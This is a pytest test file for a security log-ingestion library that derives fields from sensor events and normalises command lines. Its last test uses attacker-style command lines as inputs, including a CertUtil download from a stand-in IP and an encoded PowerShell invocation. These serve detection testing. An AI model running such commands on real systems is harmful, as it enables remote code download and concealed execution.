"""Fields that intake reads out of others: what a job asks for and a sensor did not say."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson
import pytest

from rarebit.core.fields import REST
from rarebit.core.names import normal_command
from rarebit.source.derived import directory, extension, registered_domain
from source.reading import read_bytes


@pytest.mark.parametrize(
    ("path", "where", "end"),
    [
        ("C:\\Users\\ann\\report.TXT", "C:\\Users\\ann", "txt"),
        ("/srv/in/a.tar.gz", "/srv/in", "gz"),
        ("/home/ann/.bashrc", "/home/ann", None),
        ("report", None, None),
        ("/passwd", None, None),
        ("C:\\a.b\\c", "C:\\a.b", None),
        ("D:\\x.thisisnoextension", "D:", None),
    ],
)
def test_parts_of_a_path(path: str, where: str | None, end: str | None) -> None:
    assert (directory(path), extension(path)) == (where, end)


@pytest.mark.parametrize(
    ("name", "domain"),
    [
        ("www.Example.com.", "example.com"),
        ("a.b.example.co.uk", "example.co.uk"),
        ("co.uk", "co.uk"),
        ("wpad", None),
        ("10.0.0.7", None),
        ("7.0.0.10.in-addr.arpa", None),
        ("printer.local", None),
        ("..", None),
    ],
)
def test_the_domain_of_a_name(name: str, domain: str | None) -> None:
    assert registered_domain(name) == domain


def test_a_sensor_that_says_more_is_believed(tmp_path: Path) -> None:
    common: dict[str, Any] = {
        "@timestamp": "2026-10-05T00:00:00Z",
        "event.category": ["file"],
        "file.path": "/srv/in/a.gz",
    }
    lines: list[dict[str, Any]] = [
        common,
        common | {"file.directory": "/given", "file.extension": "tgz"},
        common | {"event.category": ["process"]},
        {"@timestamp": "2026-10-05T00:00:00Z", "dns.question.name": "x.example.org", "other": 1},
    ]
    first, second, third, fourth = _rest(tmp_path, lines)
    assert first == {"file.directory": "/srv/in", "file.extension": "gz"}
    assert second == {"file.directory": "/given", "file.extension": "tgz"}
    assert third is None
    assert fourth == {"other": 1, "dns.question.registered_domain": "example.org"}


def test_answers_and_groups_of_windows_events(tmp_path: Path) -> None:
    def event(channel: str, code: int, **data: str) -> dict[str, Any]:
        about = {"event_id": code, "channel": channel, "computer_name": "ws1", "event_data": data}
        return {"@timestamp": "2026-10-05T00:00:00Z", "winlog": about}

    asked = event("Microsoft-Windows-Sysmon/Operational", 22, QueryName="a.example.com", QueryStatus="9003")
    joined = event("Security", 4732, TargetUserName="Administrators", SubjectUserName="ann")
    name, group = _rest(tmp_path, [asked, joined])
    assert name is not None
    assert (name["dns.response_code"], name["dns.question.registered_domain"]) == ("NXDOMAIN", "example.com")
    assert group is not None
    assert group["group.name"] == "Administrators"


def _rest(folder: Path, lines: list[dict[str, Any]]) -> list[dict[str, Any] | None]:
    events, _ = read_bytes(folder, b"\n".join(map(orjson.dumps, lines)))
    return [None if text is None else orjson.loads(text) for text in events.column(REST).to_pylist()]


@pytest.mark.parametrize(
    ("command", "normal"),
    [
        ("CertUtil.exe  -urlcache -f http://198.51.100.7/a", "certutil.exe -urlcache -f http://*/a"),
        ('cmd /c "C:\\Users\\Ann\\run-4711.bat"', 'cmd /c "c:\\users\\*\\run-*.bat"'),
        ("cat /home/ann/notes", "cat /home/*/notes"),
        ("powershell -enc " + "Ab1" * 30, "powershell -enc " + "ab1" * 30),
    ],
)
def test_a_command_line_is_known_by_its_words(command: str, normal: str) -> None:
    assert normal_command(command) == normal
    assert normal_command(normal) == normal
